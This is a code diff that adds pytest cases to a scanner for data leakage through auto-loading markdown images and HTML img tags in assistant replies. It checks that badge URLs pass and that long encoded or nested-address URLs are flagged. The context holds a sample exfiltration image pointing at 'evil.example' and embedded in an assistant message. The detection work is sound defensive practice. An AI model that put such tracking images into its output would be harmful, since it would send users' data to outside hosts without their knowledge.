@@ -45,6 +45,35 @@ def test_what_is_loaded_without_a_click(frame: str, kind: str, data: str) -> Non
     assert types("Here you are: " + frame.format(data)) == [kind]
 
 
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://img.shields.io/discord/1051468649518616576?logo=discord&logoColor=ffffff&color=7389D8"
+        "&labelColor=6A7EC2",
+        "https://img.shields.io/endpoint?url=https://raw.githubusercontent.com/o/r/main/badge/v2.json",
+        "https://badges.example/j.svg?url=https://formulae.example/api/f/x.json&query=$.v.stable",
+        "https://repology.org/badge/vertical-allrepos/brotli.svg?columns=3&header=packaging%20status",
+        "https://camo.example/b8555ef2222598ed/" + b"https://o.example/logo/large-one.png".hex(),
+    ],
+)
+def test_badges_are_no_leaks(address: str) -> None:
+    assert types(f"![x]({address})") == types(f'<img src="{address}">') == []
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://e.example/i?d=" + "k9Qz" * 12,
+        "https://e.example/i?u=https://e.example/" + "k9Qz" * 12,
+        "https://e.example/i/" + b"https://e.example/?q=the+name+is+Ada+Lovelace".hex(),
+    ],
+)
+def test_one_long_value_is_a_leak(address: str) -> None:
+    """Read as nothing: in cipher, or an address inside the address that carries it."""
+    assert types(f"![x]({address})") == ["leakage.markdown_image"]
+    assert types(f'<img src="{address}">') == ["leakage.html_resource"]
+
+
 def test_the_finding_covers_the_whole_construct() -> None:
     image = f"![pixel](https://evil.example/p.png?d={CODED})"
     (found,) = LEAKS.scan(f"Done. {image} Anything else?", "assistant")
